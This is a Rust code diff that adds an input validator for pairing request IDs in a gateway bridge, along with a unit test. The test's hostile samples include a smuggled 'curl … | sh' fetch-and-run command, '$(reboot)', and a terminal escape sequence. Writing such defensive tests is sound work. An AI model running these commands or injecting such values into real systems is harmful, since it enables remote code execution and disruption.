@@ -9,6 +9,16 @@ pub fn approve_command(request_id: &str) -> String {
     format!("openclaw devices approve {request_id}")
 }
 
+/// A pairing request id the gateway sent, if it looks like one (1 to 64 ASCII letters, digits
+/// and `-`: the gateway's are UUIDs). It ends up in a command the owner is told to run in a
+/// shell, so anything else (a `;`, a space, a terminal escape from a hostile or spoofed gateway)
+/// is dropped, and the bridge falls back to pointing at `openclaw devices list`.
+pub fn request_id(raw: &str) -> Option<String> {
+    let ok = (1..=64).contains(&raw.len())
+        && raw.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
+    ok.then(|| raw.to_string())
+}
+
 /// A failure of the WebSocket backend.
 #[derive(Debug, Clone, thiserror::Error, PartialEq, Eq)]
 pub enum WsError {
@@ -106,7 +116,7 @@ fn pairing_text(request_id: Option<&str>, message: &str) -> String {
             approve_command(id)
         ),
         None => format!(
-            "pairing required: {message}; run `openclaw-mcp pair` and have the gateway's owner approve the request it prints"
+            "pairing required: {message}; run `openclaw-mcp pair` and have the gateway's owner approve the pending request (`openclaw devices list` shows it)"
         ),
     }
 }
@@ -137,5 +147,38 @@ impl WsError {
             WsError::Gateway { detail, .. } => detail.as_deref(),
             _ => None,
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_a_plain_request_id_reaches_the_approve_command() {
+        assert_eq!(
+            request_id("8ed899ee-1c2d-4e5f-a6b7-c8d9e0f1a2b3").as_deref(),
+            Some("8ed899ee-1c2d-4e5f-a6b7-c8d9e0f1a2b3")
+        );
+        for hostile in [
+            "",
+            "8ed8; curl -s http://x/y | sh",
+            "a b",
+            "id\u{1b}[2K",
+            "$(reboot)",
+            "x\n",
+            &"a".repeat(65),
+        ] {
+            assert_eq!(request_id(hostile), None, "{hostile:?}");
+        }
+        let text = WsError::PairingRequired {
+            request_id: request_id("8ed8; curl -s http://x/y | sh"),
+            message: "pairing required".into(),
+        }
+        .to_string();
+        assert!(
+            !text.contains("curl") && text.contains("openclaw devices list"),
+            "{text}"
+        );
     }
 }
